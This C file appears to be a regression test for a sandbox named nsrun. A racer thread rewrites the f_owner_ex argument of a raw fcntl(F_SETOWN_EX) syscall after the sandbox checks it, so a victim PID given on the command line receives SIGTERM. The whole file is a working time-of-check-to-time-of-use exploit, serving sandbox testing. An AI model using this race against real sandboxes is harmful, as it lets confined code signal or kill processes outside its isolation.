/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A thread writes where nsrun may lay down a struct f_owner_ex below the
 * stack of another: the owner of a socket must stay what was checked.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile uintptr_t target;
static int victim;

static void *racer(void *unused)
{
	for (;;) {
		volatile struct f_owner_ex *owner = (void *)target;

		if (owner) {
			owner->type = F_OWNER_PID;
			owner->pid = victim;
		}
	}
	return unused;
}

static __attribute__((noinline)) long set_owner(int fd,
						struct f_owner_ex *owner)
{
	register uintptr_t sp __asm__("rsp");
	long r;

	target = (sp - 128 - sizeof(*owner)) & ~15UL;
	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(SYS_fcntl), "D"(fd), "S"(F_SETOWN_EX), "d"(owner)
			 : "rcx", "r11", "memory");
	target = 0;
	return r;
}

int main(int argc, char **argv)
{
	pthread_t thread;
	int pair[2];
	char byte = 'x';

	victim = atoi(argv[argc - 1]);
	socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
	fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK);
	fcntl(pair[0], F_SETSIG, SIGTERM);
	signal(SIGTERM, SIG_IGN);
	pthread_create(&thread, NULL, racer, NULL);
	for (int i = 0; i < 2000; i++) {
		struct f_owner_ex owner = { F_OWNER_PID, getpid() };

		if (set_owner(pair[0], &owner) != 0)
			return 1;
		if (write(pair[1], &byte, 1) != 1 ||
		    read(pair[0], &byte, 1) != 1)
			return 2;
	}
	puts("done");
	return 0;
}
